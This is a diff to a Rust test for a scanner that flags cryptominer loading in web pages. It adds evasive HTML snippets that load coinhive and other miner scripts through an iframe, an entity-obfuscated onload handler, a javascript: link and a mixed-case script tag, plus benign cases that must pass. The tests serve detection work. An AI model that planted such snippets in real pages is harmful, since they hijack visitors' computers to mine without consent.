@@ -303,6 +303,18 @@ fn scripts_of_pages_are_judged() {
     assert!(said("RUN true", &[("index.html", loaded)]).contains("STOP[miner-source]"));
     let inline = format!("<script>start(\"moneroocean.stream\", \"{WALLET}\")</script>");
     assert!(said("RUN true", &[("index.html", &inline)]).contains("STOP[miner-file-content]"));
+    for page in [
+        "<IFRAME SRC=https://www.hostingcloud.racing/x.html>",
+        "<body ONLOAD='lo&#97;d(\"https://&#99;oinhive.com/lib/coinhive.min.js\")'>",
+        "<a href=\"javascript:load('https://coinhive.com/lib/coinhive.min.js')\">x</a>",
+        "<ScRiPt src=//coinhive.com/lib/coinhive.min.js></sCrIpT>",
+    ] {
+        // of any length: a page has no line where its text ends
+        let page = format!("<p>{}</p>{page}", "text ".repeat(20_000));
+        assert!(said("RUN true", &[("index.html", &page)]).contains("STOP"), "{page}");
+    }
+    let link = "<p onclick='open()'>x</p><a href=https://coinhive.com/lib/coinhive.min.js>x</a>";
+    assert!(!said("RUN true", &[("index.html", link)]).contains("STOP"));
     let prose = "<p>xmrig and coinhive.min.js mine</p><script>show('xmrig')</script>";
     assert!(!said("RUN true", &[("index.html", prose)]).contains("STOP"));
 }
